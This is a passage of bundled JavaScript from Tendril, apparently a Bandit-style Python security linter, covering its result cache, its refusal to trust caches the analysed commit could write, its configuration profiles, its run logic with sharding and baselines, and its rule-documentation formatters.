function exitCode(gate) {
    return gate.internalError ? 2 : gate.failed ? 1 : 0;
}


/***/ }),

/***/ 4176:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.ResultCache = void 0;
const crypto_1 = __nccwpck_require__(6982);
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const version_1 = __nccwpck_require__(311);
const FORMAT = 1;
/** Every file under `dir`, for hashing the source tree (sorted, so the hash is stable). */
function filesUnder(dir) {
    return fs
        .readdirSync(dir, { withFileTypes: true })
        .sort((a, b) => (a.name < b.name ? -1 : 1))
        .flatMap((e) => (e.isDirectory() ? filesUnder(path.join(dir, e.name)) : [path.join(dir, e.name)]));
}
let engineId;
/**
 * Tendril's version and a hash of the code that runs: the bundle (`script`), or, running from
 * source (tests), every file of the source tree, so an edited rule never meets its old results.
 */
function engine(script) {
    if (!engineId) {
        const hash = (0, crypto_1.createHash)('sha256');
        try {
            const base = script?.endsWith('.js') ? path.dirname(script) : path.join(__dirname, '..');
            const files = script?.endsWith('.js') ? [script] : filesUnder(base);
            for (const file of files)
                hash.update(path.relative(base, file)).update(fs.readFileSync(file));
        }
        catch {
            hash.update(String(Date.now()));
        }
        engineId = `${version_1.VERSION}+${hash.digest('hex').slice(0, 16)}`;
    }
    return engineId;
}
/** The rules and their effective option values (a value equal to the default is the default). */
function settingsKey(ruleSet, budgetKey) {
    const rules = [...ruleSet.rules]
        .sort((a, b) => (a.meta.id < b.meta.id ? -1 : 1))
        .map((rule) => {
        const specs = rule.meta.options ?? {};
        const values = Object.keys(specs)
            .sort()
            .map((name) => [name, ruleSet.options[rule.meta.id]?.[name] ?? specs[name].default]);
        return values.length ? [rule.meta.id, values] : rule.meta.id;
    });
    return JSON.stringify([rules, budgetKey]);
}
class ResultCache {
    dir;
    root;
    store;
    file;
    settingsKeys;
    /** Key of every file looked up in this run. */
    keys = new Map();
    /** Entries to write: hits, and results recorded for misses. */
    fresh = new Map();
    /** Files found in the cache in this run. */
    hits = 0;
    constructor(dir, root, ruleSets, budgetKey, script) {
        this.dir = dir;
        this.root = root;
        const id = engine(script);
        this.file = path.join(dir, `results-v${FORMAT}.json`);
        this.settingsKeys = ruleSets.map((s) => settingsKey(s, budgetKey));
        let store = { engine: id, entries: {} };
        try {
            const read = JSON.parse(fs.readFileSync(this.file, 'utf8'));
            if (read && read.engine === id && typeof read.entries === 'object')
                store = read;
        }
        catch {
            // No cache yet, or an unreadable one: start empty (it is rewritten at the end).
        }
        this.store = store;
    }
    /** Opens (or starts) the cache in `dir`, relative to the root. */
    static open(dir, root, ruleSets, budgetKey, script) {
        return new ResultCache(path.resolve(root, dir), root, ruleSets, budgetKey, script);
    }
    key(file, bytes) {
        return (0, crypto_1.createHash)('sha256')
            .update(this.settingsKeys[file.profile ?? 0])
            .update('\0')
            .update(file.rel)
            .update('\0')
            .update(bytes)
            .digest('hex');
    }
    /**
     * The cached result of a file, or undefined. Reads the file to hash it; a file that cannot be
     * read is a miss (the analysis reports it).
     */
    lookup(file) {
        let bytes;
        try {
            bytes = fs.readFileSync(file.abs);
        }
        catch {
            return undefined;
        }
        const key = this.key(file, bytes);
        const entry = this.store.entries[file.rel];
        this.keys.set(file.rel, key);
        if (entry && entry.key === key) {
            this.fresh.set(file.rel, entry);
            this.hits++;
            return entry.result;
        }
        return undefined;
    }
    /** Records the result of a file looked up before (a miss). */
    record(file, result) {
        const key = this.keys.get(file.rel);
        if (key === undefined)
            return;
        if (result.notifications.some((n) => n.id === 'file-timeout' || n.id === 'internal-error'))
            return;
        this.fresh.set(file.rel, { key, result });
    }
    /** Writes the cache: this run's entries, and earlier entries whose files still exist. Never throws. */
    save() {
        const entries = {};
        for (const [rel, entry] of Object.entries(this.store.entries)) {
            if (!this.keys.has(rel) && fs.existsSync(path.join(this.root, rel)))
                entries[rel] = entry;
        }
        for (const [rel, entry] of this.fresh)
            entries[rel] = entry;
        const sorted = {};
        for (const rel of Object.keys(entries).sort())
            sorted[rel] = entries[rel];
        try {
            fs.mkdirSync(this.dir, { recursive: true });
            // Like Ruff's cache: ignored by git and tagged for backup tools, whatever the project's settings.
            const gitignore = path.join(this.dir, '.gitignore');
            if (!fs.existsSync(gitignore))
                fs.writeFileSync(gitignore, '# Created by Tendril.\n*\n');
            const tag = path.join(this.dir, 'CACHEDIR.TAG');
            if (!fs.existsSync(tag)) {
                fs.writeFileSync(tag, 'Signature: 8a477f597d28d172789f06886806bc55\n# This file is a cache directory tag created by Tendril.\n');
            }
            const tmp = `${this.file}.${process.pid}.tmp`;
            fs.writeFileSync(tmp, JSON.stringify({ engine: this.store.engine, entries: sorted }));
            fs.renameSync(tmp, this.file);
            return undefined;
        }
        catch (error) {
            return `the cache could not be written to ${this.dir} (${error.code ?? error.message}); the next run starts without it`;
        }
    }
}
exports.ResultCache = ResultCache;


/***/ }),

/***/ 7632:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.cacheRefusal = cacheRefusal;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const git_1 = __nccwpck_require__(8119);
/**
 * Whether a result cache may be used: a cache that the analysed commit can write is never
 * trusted. The cache maps a file's bytes to its findings, so a pull request that commits an
 * edited cache file could have its own injection reported clean. Entries are already bound to
 * the engine build (src/engine/cache.ts), but a build's identity is public (the hash of a
 * published bundle), so that binding only keeps builds apart; it is no defence. Refused:
 *
 * - a cache directory with anything in it tracked by git (the commit wrote it);
 * - in the action, a cache directory inside the workspace (the analysed tree: anything in it,
 *   tracked or not, may come from the commit, and a committed symbolic link can point anywhere,
 *   so the real path is what counts).
 *
 * Returns why the cache is refused, or undefined when it may be used.
 */
function cacheRefusal(dir, root, workspace) {
    const abs = path.resolve(root, dir);
    if (workspace) {
        const ws = realish(workspace);
        const real = realish(abs);
        if (inside(abs, path.resolve(workspace)) || inside(real, ws)) {
            return (`the cache directory ${abs} is inside the workspace, which the analysed commit writes, so its results cannot be trusted; ` +
                'the cache is off for this run. Keep it outside the workspace (the default, under RUNNER_TEMP), restored and saved with actions/cache');
        }
    }
    if (inside(abs, path.resolve(root)) && (0, git_1.tracksAnything)(root, path.relative(root, abs) || '.')) {
        return `the cache directory ${abs} holds files tracked by git: the analysed commit wrote them, so they cannot be trusted; the cache is off for this run`;
    }
    return undefined;
}
function inside(child, parent) {
    const rel = path.relative(parent, child);
    return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
}
/** The real path of `p`, or of its nearest existing ancestor joined with the rest. */
function realish(p) {
    let dir = path.resolve(p);
    const rest = [];
    for (;;) {
        try {
            return path.join(fs.realpathSync(dir), ...rest.reverse());
        }
        catch {
            const parent = path.dirname(dir);
            if (parent === dir)
                return path.resolve(p);
            rest.push(path.basename(dir));
            dir = parent;
        }
    }
}


/***/ }),

/***/ 6738:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.Profiles = void 0;
const path = __importStar(__nccwpck_require__(6928));
const config_1 = __nccwpck_require__(9551);
const glob_1 = __nccwpck_require__(3854);
const options_1 = __nccwpck_require__(8031);
const settings_1 = __nccwpck_require__(7100);
/** True when `dir` is `top` or below it. */
function within(top, dir) {
    const rel = path.relative(top, dir);
    return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
}
/**
 * Which configuration applies to each analysed file. Profile 0 is the run's own (the named
 * configuration file, or the nearest one upward from the analysed paths); with no file named, a
 * directory below the analysed paths' common directory that holds its own configuration file
 * starts a new profile for everything beneath it, nearest wins, nothing inherited (as Ruff). Flags
 * and action inputs override every profile alike.
 */
class Profiles {
    settings;
    list;
    /** Warnings about configuration that does not apply (run-wide keys in nested files). */
    notifications = [];
    byDir = new Map();
    byFile = new Map();
    constructor(settings) {
        this.settings = settings;
        this.list = [(0, settings_1.profileOf)(settings)];
    }
    /** The profile index of a file or directory (absolute path). */
    indexOf(abs, isDir = false) {
        return this.dirIndex(isDir ? abs : path.dirname(abs));
    }
    profileFor(abs, isDir = false) {
        return this.list[this.indexOf(abs, isDir)];
    }
    /**
     * True when the exclude patterns of a nested configuration leave out this file: the file or one
     * of its directories below that configuration's directory matches. (The run's own patterns are
     * applied while walking directories.)
     */
    excluded(abs) {
        const index = this.indexOf(abs);
        if (index === 0)
            return false;
        const profile = this.list[index];
        const top = path.dirname(profile.configFile);
        if ((0, glob_1.matchesAny)(profile.exclude, abs, false))
            return true;
        for (let dir = path.dirname(abs); dir !== top && within(top, dir); dir = path.dirname(dir)) {
            if ((0, glob_1.matchesAny)(profile.exclude, dir, true))
                return true;
        }
        return false;
    }
    /** Every rule some profile runs, in catalogue order of first appearance. */
    allRules() {
        return [...new Set(this.list.flatMap((p) => p.rules))];
    }
    dirIndex(dir) {
        const search = this.settings.configSearch;
        if (!search || dir === search.from || !within(search.from, dir))
            return 0;
        const known = this.byDir.get(dir);
        if (known !== undefined)
            return known;
        const file = (0, config_1.configIn)(dir);
        const index = file ? this.add(file) : this.dirIndex(path.dirname(dir));
        this.byDir.set(dir, index);
        return index;
    }
    add(file) {
        const known = this.byFile.get(file);
        if (known !== undefined)
            return known;
        const input = (0, settings_1.readConfigFile)(file);
        const rel = path.relative(this.settings.root, file).split(path.sep).join('/');
        for (const { field, name } of options_1.RUN_WIDE_KEYS) {
            if (input[field] === undefined)
                continue;
            this.notifications.push({
                level: 'warning',
                id: 'configuration',
                path: rel,
                message: `${rel}: '${name}' applies to the whole run and is read only from the configuration the run starts from` +
                    ` (${this.settings.configFile ? path.relative(this.settings.root, this.settings.configFile) || this.settings.configFile : 'none'}); ignored here.`,
            });
        }
        this.list.push({ ...(0, settings_1.resolveProfile)(this.settings.root, [input, this.settings.configSearch.flags]), configFile: file });
        this.byFile.set(file, this.list.length - 1);
        return this.list.length - 1;
    }
}
exports.Profiles = Profiles;


/***/ }),

/***/ 319:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.compareNotifications = compareNotifications;
exports.run = run;
const path = __importStar(__nccwpck_require__(6928));
const baseline_1 = __nccwpck_require__(3907);
const discover_1 = __nccwpck_require__(4883);
const glob_1 = __nccwpck_require__(3854);
const cache_1 = __nccwpck_require__(4176);
const pool_1 = __nccwpck_require__(6138);
const profiles_1 = __nccwpck_require__(6738);
const rules_1 = __nccwpck_require__(5755);
const gates_1 = __nccwpck_require__(2343);
const errors_1 = __nccwpck_require__(3916);
function compareFindings(a, b) {
    return ((a.path < b.path ? -1 : a.path > b.path ? 1 : 0) ||
        a.line - b.line ||
        a.column - b.column ||
        (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) ||
        a.endLine - b.endLine ||
        a.endColumn - b.endColumn ||
        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
}
/** A total order on notifications, so shards merged give the bytes of one run (src/report/merge.ts). */
function compareNotifications(a, b) {
    const s = (x, y) => (x < y ? -1 : x > y ? 1 : 0);
    return s(a.path, b.path) || (a.line ?? 0) - (b.line ?? 0) || (a.column ?? 0) - (b.column ?? 0) || s(a.id, b.id) || s(a.message, b.message);
}
async function run(settings, workerScript, hooks = {}) {
    if (settings.scope === 'changed' && !settings.baselineRef) {
        throw new errors_1.UsageError("scope 'changed' needs a baseline ref to compare with (baseline-ref, --baseline-ref)");
    }
    const baseline = settings.baselineRef ? (0, baseline_1.openBaseline)(settings.root, settings.baselineRef, 'baseline ref') : undefined;
    const profiles = new profiles_1.Profiles(settings);
    const discovery = (0, discover_1.discover)(settings.root, settings.paths, { exclude: settings.exclude });
    let files = discovery.files.filter((f) => !profiles.excluded(f.abs));
    if (baseline && settings.scope === 'changed')
        files = files.filter((f) => (0, baseline_1.isChanged)(baseline, f.rel));
    // Round robin over the sorted list: shards of equal size, the same split on every machine.
    const shard = settings.shard;
    if (shard)
        files = files.filter((_, i) => i % shard.count === shard.index - 1);
    files = files.map((f) => ({ ...f, profile: profiles.indexOf(f.abs) }));
    const ruleIds = new Set(rules_1.ALL_RULES.map((rule) => rule.meta.id));
    const ruleSets = profiles.list.map((p) => ({ rules: p.rules, options: p.ruleOptions, ruleIds }));
    const budget = { maxFileSize: settings.maxFileSize, timeoutSeconds: settings.fileTimeout };
    const pool = { jobs: settings.jobs, autoJobs: settings.jobsAuto, workerScript, budget, onProgress: hooks.onProgress };
    hooks.onFiles?.(files.length);
    const { results, cached, cacheProblem } = await analyzeCached(files, ruleSets, pool, settings);
    // per-file-ignores drop findings; suppressed findings are kept only with include-suppressed
    // (SARIF `suppressions`), and never count for the gates. Both follow the file's configuration.
    const profileOf = new Map(files.map((f) => [f.rel, profiles.list[f.profile ?? 0]]));
    const dropped = (f) => {
        const profile = profileOf.get(f.path) ?? profiles.list[0];
        return ((!profile.includeSuppressed && f.suppressed !== undefined) ||
            profile.perFileIgnores.some((p) => p.ruleIds.has(f.ruleId) && (0, glob_1.matchesAny)([p.pattern], path.resolve(settings.root, f.path), false)));
    };
    const findings = results
        .flatMap((r) => r.findings)
        .filter((f) => !dropped(f))
        .sort(compareFindings);
    // Directory problems are reported by the first shard only, so merged shards do not repeat them.
    const runWide = shard && shard.index > 1 ? [] : [...discovery.notifications, ...profiles.notifications, ...(cacheProblem ? [cacheProblem] : [])];
    const notifications = [...runWide, ...results.flatMap((r) => r.notifications)].sort(compareNotifications);
    let summary;
    if (baseline) {
        const scopes = settings.paths.map((p) => path.relative(settings.root, path.resolve(p)).split(path.sep).join('/'));
        const inScope = (rel) => scopes.some((s) => s === '' || rel === s || rel.startsWith(s + '/'));
        // A deleted file counts once, in the first shard.
        const deletedInScope = (rel) => (!shard || shard.index === 1) && inScope(rel);
        const quiet = { ...pool, onProgress: undefined };
        summary = await (0, baseline_1.applyBaseline)(baseline, settings.root, files, findings, ruleSets, (rel) => profiles.indexOf(path.resolve(settings.root, rel)), quiet, deletedInScope);
    }
    else if (settings.baselineSarif) {
        summary = (0, baseline_1.applyBaselineSarif)(path.resolve(settings.root, settings.baselineSarif), findings, 'baseline SARIF');
    }
    const open = findings.filter((f) => f.suppressed === undefined);
    const counts = (0, gates_1.countFindings)(open);
    const newCounts = summary ? (0, gates_1.countFindings)(open.filter((f) => f.baselineState === 'new')) : counts;
    return {
        settings,
        rules: profiles.allRules(),
        files: files.length,
        cached,
        findings,
        notifications,
        counts,
        newCounts,
        baseline: summary,
        gate: (0, gates_1.evaluateGates)(counts, settings, newCounts, notifications),
    };
}
/**
 * The analysis with the content-hash cache in front: files whose bytes, path and settings were
 * seen before take their stored result; the rest go to the pool, and the cache is written before
 * anything downstream (baseline states) touches the results.
 */
async function analyzeCached(files, ruleSets, pool, settings) {
    if (!settings.cacheDir)
        return { results: await (0, pool_1.analyzeFiles)(files, ruleSets, pool), cached: 0 };
    const budget = pool.budget;
    const cache = cache_1.ResultCache.open(settings.cacheDir, settings.root, ruleSets, `${budget.maxFileSize}`, pool.workerScript);
    const results = new Array(files.length);
    const misses = [];
    files.forEach((file, i) => {
        // A file over the size budget is not even read: the analysis reports it.
        const hit = file.size > budget.maxFileSize ? undefined : cache.lookup(file);
        if (hit)
            results[i] = hit;
        else
            misses.push(i);
    });
    const hits = files.length - misses.length;
    const onProgress = pool.onProgress;
    onProgress?.(hits);
    const fresh = await (0, pool_1.analyzeFiles)(misses.map((i) => files[i]), ruleSets, { ...pool, onProgress: onProgress && ((done) => onProgress(hits + done)) });
    misses.forEach((i, k) => {
        results[i] = fresh[k];
        cache.record(files[i], fresh[k]);
    });
    const problem = cache.save();
    const cacheProblem = problem
        ? { level: 'warning', id: 'cache', path: path.relative(settings.root, settings.cacheDir).split(path.sep).join('/') || '.', message: `Cache: ${problem}.` }
        : undefined;
    return { results, cached: hits, cacheProblem };
}


/***/ }),

/***/ 2239:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.formatRulesText = formatRulesText;
exports.formatRulesMarkdown = formatRulesMarkdown;
exports.formatRulesReference = formatRulesReference;
exports.formatSeverityDoc = formatSeverityDoc;
const rules_1 = __nccwpck_require__(5755);
const severity_1 = __nccwpck_require__(2640);
function severityOf(meta) {
    return meta.kind === 'security' ? `${(0, severity_1.bandOf)(meta.securitySeverity ?? 0)} (${meta.securitySeverity?.toFixed(1)})` : 'note';
}
/** `tendril rules`: one line per rule. */
function formatRulesText() {
    const rows = rules_1.ALL_RULES.map((r) => [r.meta.id, r.meta.kind, severityOf(r.meta), r.meta.aliases.join(', '), r.meta.shortDescription]);
    const widths = [0, 1, 2, 3].map((i) => Math.max(...rows.map((row) => row[i].length), ['Rule', 'Kind', 'Severity', 'Aliases'][i].length));
    const line = (row) => row
        .map((cell, i) => (i < 4 ? cell.padEnd(widths[i]) : cell))
        .join('  ')
        .trimEnd();
    return [line(['Rule', 'Kind', 'Severity', 'Aliases', 'Description']), ...rows.map(line)].join('\n') + '\n';
}
/** The Markdown rule table, generated into the README between markers (scripts/gen-docs.js). */
function formatRulesMarkdown() {
    const out = ['| Rule | Kind | Severity | Aliases | What it finds |', '| --- | --- | --- | --- | --- |'];
    for (const { meta } of rules_1.ALL_RULES) {
        out.push(`| [\`${meta.id}\`](docs/rules.md#${meta.id}) | ${meta.kind} | ${severityOf(meta)} | ${meta.aliases.join(', ')} | ${meta.shortDescription}${meta.enabledByDefault === false ? ' (off by default)' : ''} |`);
    }
    return out.join('\n') + '\n';
}
/** docs/rules.md: every rule's metadata and help, generated. */
function formatRulesReference() {
    const out = ['# Rule reference', '', "<!-- Generated from the rules' metadata by `npm run docs`; do not edit by hand. -->", ''];
    for (const { meta } of rules_1.ALL_RULES) {
        out.push(`## ${meta.id}`, '');
        out.push(`${meta.shortDescription}.`.replace(/\.\.$/, '.'), '');
        out.push(`- Kind: ${meta.kind}; category: ${meta.category}`);
        out.push(`- Severity: ${severityOf(meta)}${meta.cwe?.length ? `; CWE: ${meta.cwe.map((c) => `CWE-${c}`).join(', ')}` : ''}`);
        out.push(`- Precision: ${meta.precision}`);
        if (meta.enabledByDefault === false)
            out.push('- Off by default: runs only when selected (`select`)');
        out.push(`- Aliases: ${meta.aliases.join(', ')}`, '');
        out.push(meta.fullDescription, '', meta.help.trim(), '');
        const options = Object.entries(meta.options ?? {});
        if (options.length) {
            out.push(`Options, set under \`[tool.tendril.rules.${meta.id}]\`:`, '', '| Option | Type | Default | Meaning |', '| --- | --- | --- | --- |');
            for (const [name, spec] of options) {
                out.push(`| \`${name}\` | ${spec.type}${spec.values ? ` (${spec.values.join(', ')})` : ''} | \`${JSON.stringify(spec.default)}\` | ${spec.description} |`);
            }
            out.push('');
        }
    }
    return out.join('\n');
}
/** docs/severity.md: the security-severity scale and each security rule's place on it, generated. */
function formatSeverityDoc() {
    const out = [
        '# Security severity',
        '',
        "<!-- Generated from src/rules/severity.ts and the rules' metadata by `npm run docs`; do not edit by hand. -->",
        '',
        'GitHub code scanning ranks a security alert Critical, High, Medium or Low from the numeric',
        '`security-severity` of its rule (>= 9.0 critical, 7.0 to 8.9 high, 4.0 to 6.9 medium, 0.1 to 3.9 low).',
        "Tendril's security rules follow Bandit's catalogue, so Bandit's severity sets the number and",
        "Bandit's confidence sets SARIF `precision`:",
        '',
        '| Bandit severity | security-severity | GitHub band | SARIF level |',
        '| --- | --- | --- | --- |',
    ];
    for (const level of ['HIGH', 'MEDIUM', 'LOW']) {
        const score = severity_1.SECURITY_SEVERITY[level];
        out.push(`| ${level} | ${score.toFixed(1)} | ${(0, severity_1.bandOf)(score)} | ${score >= 7 ? 'error' : 'warning'} |`);
    }
    out.push('', '| Bandit confidence | precision |', '| --- | --- |');
    for (const level of ['HIGH', 'MEDIUM', 'LOW'])
        out.push(`| ${level} | ${severity_1.PRECISION_FOR_CONFIDENCE[level]} |`);
    out.push('', 'SARIF allows one `security-severity` per rule. Where Bandit gives one check different severities', 'depending on the code, Tendril splits it into separate rules, each with its own severity (for', 'example `subprocess-shell-true` and `subprocess-shell-true-literal` for Bandit B602).', '', 'Maintainability rules never carry a `security-severity`: they are SARIF notes, in their own run', '(category `tendril/maintainability/`), and never look like vulnerabilities.', '', '## Security rules', '', '| Rule | security-severity | Band | Precision | CWE | Aliases |', '| --- | --- | --- | --- | --- | --- |');
    for (const { meta } of rules_1.ALL_RULES.filter((r) => r.meta.kind === 'security')) {
        const score = meta.securitySeverity ?? 0;
        out.push(`| \`${meta.id}\` | ${score.toFixed(1)} | ${(0, severity_1.bandOf)(score)} | ${meta.precision} | ${(meta.cwe ?? []).map((c) => `CWE-${c}`).join(', ')} | ${meta.aliases.join(', ')} |`);
    }
    return out.join('\n') + '\n';
}


/***/ }),

/***/ 3966:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.formatExplain = formatExplain;
exports.formatResolvedSettings = formatResolvedSettings;
exports.startProgress = startProgress;
const errors_1 = __nccwpck_require__(3916);
const api_1 = __nccwpck_require__(6750);
const rules_1 = __nccwpck_require__(5755);
const severity_1 = __nccwpck_require__(2640);
/** `tendril explain RULE`: one rule's metadata and help, found by id or alias. */
function formatExplain(name) {
    const matches = rules_1.ALL_RULES.filter((r) => (0, api_1.namesRule)(name, r.meta));
    if (matches.length === 0)
        throw new errors_1.UsageError(`explain: no rule has the id or alias '${name}' (see 'tendril rules')`);
    return matches
        .map(({ meta }) => {
        const severity = meta.kind === 'security' ? `${(0, severity_1.bandOf)(meta.securitySeverity ?? 0)} (${(meta.securitySeverity ?? 0).toFixed(1)})` : 'note';
        const options = Object.entries(meta.options ?? {}).map(([key, spec]) => `  ${key} (${spec.type}, default ${JSON.stringify(spec.default)}): ${spec.description}`);
        return [
            `${meta.id}: ${meta.shortDescription}`,
            '',
            `Kind: ${meta.kind}; category: ${meta.category}; severity: ${severity}; precision: ${meta.precision}`,
            `Aliases: ${meta.aliases.join(', ') || 'none'}${meta.cwe?.length ? `; CWE: ${meta.cwe.map((c) => `CWE-${c}`).join(', ')}` : ''}`,
            ...(options.length ? ['Options ([tool.tendril.rules.' + meta.id + ']):', ...options] : []),
            '',
            meta.fullDescription,
            '',
            meta.help.trim(),
            '',
        ].join('\n');
    })
        .join('\n');
}
/**
 * `tendril config`: the resolved settings, as TOML-like lines a person can read and copy; then,
 * for each nearer configuration file that applies to some of the analysed files, the settings it
 * gives them.
 */
function formatResolvedSettings(settings, nested = []) {
    const q = (s) => JSON.stringify(s);
    const list = (xs) => `[${xs.map(q).join(', ')}]`;
    const profileLines = (p) => {
        const lines = [
            `rules = ${list(p.rules.map((r) => r.meta.id))}`,
            `exclude = ${list(p.exclude.map((x) => x.source))}`,
            `per-file-ignores = {${p.perFileIgnores.map((x) => ` ${q(x.pattern.source)} = ${list([...x.ruleIds])}`).join(',')} }`,
            `include-suppressed = ${p.includeSuppressed}`,
        ];
        for (const [ruleId, options] of Object.entries(p.ruleOptions)) {
            lines.push('', `[rules.${ruleId}]`);
            for (const [key, value] of Object.entries(options))
                lines.push(`${key} = ${JSON.stringify(value)}`);
        }
        return lines;
    };
    const [first, ...rest] = profileLines(settings);
    const lines = [
        `# configuration file: ${settings.configFile ?? '(none: defaults)'}`,
        `# root: ${settings.root}`,
        `paths = ${list(settings.paths)}`,
        `fail-on-security-severity = ${q(settings.failOnSecuritySeverity)}`,
        `max-maintainability-findings = ${settings.maxMaintainabilityFindings}`,
        `max-file-size = ${settings.maxFileSize}`,
        `file-timeout = ${settings.fileTimeout}`,
        `cache-dir = ${settings.cacheDir ? q(settings.cacheDir) : 'false'}`,
        `jobs = ${settings.jobs}`,
        first,
        ...rest,
    ];
    for (const { profile, files } of nested) {
        lines.push('', `# nearer configuration file: ${profile.configFile} (${files} of the analysed files; nearest wins, nothing inherited)`, ...profileLines(profile));
    }
    return lines.join('\n') + '\n';
}
/**
 * A progress indicator on `stream` (stderr) for runs longer than two seconds, only on a terminal:
 * files done out of the total and the elapsed time, on one line rewritten in place, erased when
 * the run ends.
 */
function startProgress(stream, delayMs = 2000) {
    let total;
    let done = 0;
    if (!stream.isTTY)
        return { total() { }, done() { }, stop() { } };
    const started = Date.now();
    let shown = false;
    let ticker;
    const draw = () => {
        shown = true;
        const count = total === undefined ? '' : ` ${done}/${total} files,`;
        stream.write(`\r\x1b[2Ktendril: analysing...${count} ${Math.round((Date.now() - started) / 1000)}s`);
    };
    const timer = setTimeout(() => {
        draw();
        ticker = setInterval(draw, 500);
        ticker.unref();
    }, delayMs);
    timer.unref();
    return {
        total(n) {
            total = n;
        },
        done(n) {
            done = n;
        },
        stop() {
            clearTimeout(timer);
            if (ticker)
                clearInterval(ticker);
            if (shown)
                stream.write('\r\x1b[2K');
        },
    };
}


/***/ }),

/***/ 2794:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.formatJson = formatJson;
const version_1 = __nccwpck_require__(311);
const labels_1 = __nccwpck_require__(7923);
